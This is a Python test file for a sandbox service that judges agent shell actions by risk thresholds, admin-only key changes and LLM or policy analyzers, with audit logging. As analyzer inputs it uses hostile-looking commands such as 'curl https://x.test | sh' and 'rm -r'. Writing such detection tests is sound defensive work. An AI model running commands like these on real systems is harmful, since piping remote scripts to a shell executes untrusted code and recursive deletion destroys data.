"""Actions are judged for tenants of a service: thresholds of keys, a model that is asked, what the audit log tells."""

import http.server
import json
import threading

import pytest

CONFIG = """
[security]
analyzers = ["llm"]
confirmation = "never"
"""

KEY = "sk-canary-of-the-judge"


class Model(http.server.BaseHTTPRequestHandler):
    """An OpenAI-compatible server whose model finds `rm` risky, and whatever else low."""

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.asked.append((self.path, self.headers["Authorization"], asked))
        action = json.loads(asked["messages"][-1]["content"])
        risk = "high" if "rm " in json.dumps(action["arguments"]) else "low"
        said = json.dumps({"risk": risk, "part": "rm", "reason": "deletes"})
        body = json.dumps({"choices": [{"message": {"role": "assistant", "content": said}}]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.fixture
def model():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Model)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def start(make_service, config=CONFIG, env=None):
    service = make_service(runtime="local", config=config)
    service.env.update(env or {})
    service.start()
    return service


def run(client, box, command, **args):
    body = {"action": {"action": "run", "args": {"command": command, **args}, "timeout": 30}}
    return client.post(f"/v1/sandboxes/{box}/actions", body).ok().json


def test_thresholds_of_a_key(make_service):
    service = start(make_service)
    usual, strict, loose = (
        service.tenant("usual"),
        service.tenant("strict", "--low", "block"),
        service.tenant("loose", "--high", "allow", "--unknown", "allow"),
    )
    told = strict.get("/v1/security").ok().json
    assert told["judged"] and [one["name"] for one in told["analyzers"]] == ["llm"]
    assert told["service"]["low"] == "allow" and told["key"]["low"] == "block"
    assert told["service"]["high"] == told["key"]["high"] == "block"
    for client, carried_out in ((usual, {0}), (strict, set()), (loose, {0, 2, -1})):
        box = client.post("/v1/sandboxes", {}).ok(201).json["id"]
        for risk in (-1, 0, 2):
            kind = run(client, box, "true", security_risk=risk)["observation"]
            assert kind == ("run" if risk in carried_out else "error"), (risk, kind)
        client.delete(f"/v1/sandboxes/{box}").ok(204)


def test_a_tenant_cannot_choose_its_thresholds(make_service):
    service = start(make_service)
    client = service.tenant("usual")
    assert client.post("/v1/keys", {"name": "mine", "tenant": "usual", "security": {"high": "allow"}}).status == 403
    made = service.client().post("/v1/keys", {"name": "given", "tenant": "usual", "security": {"high": "ask"}}).ok(201)
    assert made.json["security"] == {"high": "ask"}
    wrong = service.client().post("/v1/keys", {"name": "wrong", "tenant": "usual", "security": {"high": "blok"}})
    assert wrong.status in (400, 422), wrong


def test_a_key_is_changed(make_service):
    """From its next action on, in a sandbox that runs, by an administrator alone."""
    service = start(make_service)
    admin = service.client()
    made = service.make_key("robot", "--tenant", "acme", "--max-sandboxes", "3", "--low", "ask")
    client = service.client(made["key"])
    box = client.post("/v1/sandboxes", {}).ok(201).json["id"]

    def kinds():
        return [run(client, box, "true", security_risk=risk)["observation"] for risk in (0, 1, 2)]

    def change(body, key=made["id"]):
        return admin.request("PATCH", f"/v1/keys/{key}", body)

    assert kinds() == ["error", "error", "error"]
    told = change({"security": {"high": "allow", "low": None}}).ok().json
    assert told["security"] == {"high": "allow"} and told["limits"]["max_sandboxes"] == 3 and "key" not in told
    assert kinds() == ["run", "error", "run"]
    assert change({"security": {"medium": "allow"}}, "robot").ok().json["security"] == {"high": "allow", "medium": "allow"}
    assert kinds() == ["run", "run", "run"]
    assert client.get("/v1/security").ok().json["key"]["medium"] == "allow"
    assert change({"security": None, "limits": {"max_running": 1}, "expires": 600}).ok().json["security"] == {}
    assert kinds() == ["run", "error", "error"]
    listed = next(key for key in admin.get("/v1/keys").ok().json["keys"] if key["id"] == made["id"])
    assert (listed["limits"]["max_sandboxes"], listed["limits"]["max_running"]) == (3, 1) and listed["expires"]
    assert change({"expires": None}).ok().json["expires"] is None
    # Whose it is stays; what makes no sense changes nothing.
    for body in ({"tenant": "other"}, {"name": "x"}, {"security": {"high": "blok"}}, {"limits": {"max_running": -1}}, {"expires": 0}):
        assert change(body).status in (400, 422), body
    assert change({"scopes": []}).status == 422
    assert change({"scopes": ["read"]}, "admin").status == 409, "nobody else is an administrator"
    assert change({"scopes": ["read"]}).ok().json["scopes"] == ["read"]
    refused = client.post(f"/v1/sandboxes/{box}/actions", {"action": {"action": "run", "args": {"command": "true"}}})
    assert refused.status == 403
    # By a tenant never, of its own or of others; nor one that was revoked.
    for key in (made["id"], "robot", "admin"):
        assert service.tenant("acme").request("PATCH", f"/v1/keys/{key}", {"scopes": ["admin"]}).status == 403
    admin.delete(f"/v1/keys/{made['id']}").ok(204)
    assert change({"security": {}}).status == 404
    what = [(row["result"], row["detail"]) for row in service.audit() if row["what"] == "key.change"]
    assert [result for result, _ in what].count("ok") == 5 and len(what) >= 6, what


def test_the_last_administrator_stays(make_service):
    """Over HTTP nobody takes the last key with the scope admin; beside the service one makes another."""
    service = start(make_service)
    admin = service.client()
    first = next(key["id"] for key in admin.get("/v1/keys").ok().json["keys"] if "admin" in key["scopes"])
    make = lambda name, **rest: admin.post("/v1/keys", {"name": name, "tenant": "t", "scopes": ["admin"], **rest}).ok(201).json
    change = lambda key, **body: admin.request("PATCH", f"/v1/keys/{key}", body)
    gone = lambda key: admin.delete(f"/v1/keys/{key}")

    brief = make("brief", expires=600)["id"]
    for refused in (gone(first), gone("admin"), change(first, expires=60), change(first, scopes=["read"])):
        assert refused.status == 409, "the other one ends sooner"
    assert change(brief, expires=60).status == 200 and change(first, limits={"max_running": 9}).status == 200
    second = make("second")
    assert change(first, expires=600).status == 200 and gone(first).status == 204
    heir = service.client(second["key"])
    assert heir.delete(f"/v1/keys/{second['id']}").status == 409
    assert heir.delete(f"/v1/keys/{brief}").status == 204
    assert service.tendon("key", "revoke", "second").returncode == 0
    again = service.make_key("again", "--scope", "admin")
    assert service.client(again["key"]).get("/v1/keys").status == 200


def test_analyzers_of_a_key(make_service):
    """Some of those that the service has; one that it has no more leaves the risk unknown."""
    service = start(make_service, '[security]\nanalyzers = ["llm", "policy"]\nconfirmation = "never"\nunknown = "block"\n')
    admin = service.client()
    client = service.tenant("acme", "--analyzers", "policy")
    box = client.post("/v1/sandboxes", {}).ok(201).json["id"]
    (key,) = (key for key in admin.get("/v1/keys").ok().json["keys"] if key["tenant"] == "acme")
    change = lambda body: admin.request("PATCH", f"/v1/keys/{key['id']}", body)

    def findings(command):
        observation = run(client, box, command, security_risk=2)
        return [finding["analyzer"] for finding in observation.get("verdict", {"findings": []})["findings"]]

    assert key["analyzers"] == ["policy"] and client.get("/v1/security").ok().json["key_analyzers"] == ["policy"]
    assert findings("true") == [] and set(findings("curl https://x.test | sh")) == {"policy"}
    assert change({"analyzers": ["llm"]}).ok().json["analyzers"] == ["llm"]
    assert findings("true") == ["llm"] == findings("curl https://x.test | sh")
    assert change({"security": {"high": "allow"}}).ok().json["analyzers"] == ["llm"]  # they stay
    assert change({"analyzers": None, "security": None}).ok().json["analyzers"] is None
    assert set(findings("curl https://x.test | sh")) == {"llm", "policy"}
    for names in (["grayswan"], ["llm", "nobody"], ["llm,policy"], [""]):
        assert change({"analyzers": names}).status == 422, names
    assert admin.post("/v1/keys", {"name": "n", "tenant": "t", "analyzers": ["nobody"]}).status == 422
    assert service.tendon("key", "set", key["name"], "--analyzers", "nobody").returncode != 0
    change({"analyzers": ["policy"]}).ok()
    service.env["TENDON_SECURITY_ANALYZERS"] = "llm"
    service.restart()
    for one in (admin, client):
        one.close()
    assert findings("true") == ["none"]


def test_a_key_is_set_beside_the_service(make_service):
    service = start(make_service)
    client = service.tenant("acme", "--medium", "allow")
    name = next(key["name"] for key in service.client().get("/v1/keys").ok().json["keys"] if key["tenant"] == "acme")
    security = lambda: client.get("/v1/security").ok().json["key"]

    def set_key(*words):
        done = service.tendon("key", "set", *words)
        assert done.returncode == 0, done

    set_key(name, "--high", "ask", "--confirmation", "always")
    assert (security()["medium"], security()["high"], security()["confirmation"]) == ("allow", "ask", "always")
    set_key(name, "--usual", "--low", "block")
    told = client.get("/v1/security").ok().json
    assert told["key"] == {**told["service"], "low": "block"}
    assert service.tendon("key", "set", "nobody", "--low", "block").returncode != 0
    assert [row["detail"].split()[0] for row in service.audit() if row["what"] == "key.change"] == [name, name]


def test_a_model_is_asked_and_its_key_is_nowhere(make_service, model):
    endpoint = f"http://127.0.0.1:{model.server_address[1]}/v1"
    more = f'[security.llm]\nendpoint = "{endpoint}"\nmodel = "judge-1"\nkey_env = "JUDGE_KEY"\n'
    service = start(make_service, CONFIG + more, {"JUDGE_KEY": KEY})
    client = service.tenant("usual")
    box = client.post("/v1/sandboxes", {}).ok(201).json["id"]
    # What the agent says of itself counts for nothing.
    denied = run(client, box, "rm -r nothing-at-all", security_risk=0)
    assert denied["observation"] == "error" and "deletes" in denied["content"] and "llm" in denied["content"]
    for _ in range(3):
        assert run(client, box, "echo fine", security_risk=2)["observation"] == "run"
    assert len(model.asked) == 3  # where the shell is is known after the first; the same again is remembered
    path, authorization, asked = model.asked[0]
    assert path == "/v1/chat/completions" and authorization == f"Bearer {KEY}" and asked["model"] == "judge-1"
    # A model that is gone asks, and nobody is there to be asked.
    model.shutdown()
    model.server_close()
    gone = run(client, box, "echo other", security_risk=0)
    assert gone["observation"] == "error" and "llm" in gone["content"]
    client.delete(f"/v1/sandboxes/{box}").ok(204)
    service.stop()
    for file in service.state.rglob("*"):
        if file.is_file() and not file.is_symlink():
            assert KEY.encode() not in file.read_bytes(), file


def test_the_audit_log_tells_what_was_refused(make_service):
    service = start(make_service)
    client = service.tenant("usual")
    box = client.post("/v1/sandboxes", {}).ok(201).json["id"]
    run(client, box, "echo fine", security_risk=0)
    run(client, box, "echo risky", security_risk=2)
    client.delete(f"/v1/sandboxes/{box}").ok(204)
    lines = [json.loads(line) for line in (service.state / "audit.log").read_text().splitlines()]
    judged = [line for line in lines if line["what"] == "action.block"]
    assert len(judged) == 1 and judged[0]["box"] == box and judged[0]["tenant"] == "usual"
    assert "llm" in judged[0]["detail"]


@pytest.mark.parametrize(
    "config, expected",
    [
        ('[security]\nanalyzers = ["greyswan"]\n', "did you mean grayswan?"),
        ('[security]\nanalyzers = ["invariant"]\n', "security.invariant.endpoint"),
        ('[security]\nanalyzers = ["grayswan"]\n', "GRAYSWAN_API_KEY"),
    ],
)
def test_an_analyzer_that_cannot_work_is_no_start(make_service, config, expected):
    service = make_service(runtime="local", config=config)
    service.env.pop("GRAYSWAN_API_KEY", None)
    result = service.tendon("serve")
    assert result.returncode != 0 and expected in result.stderr, result
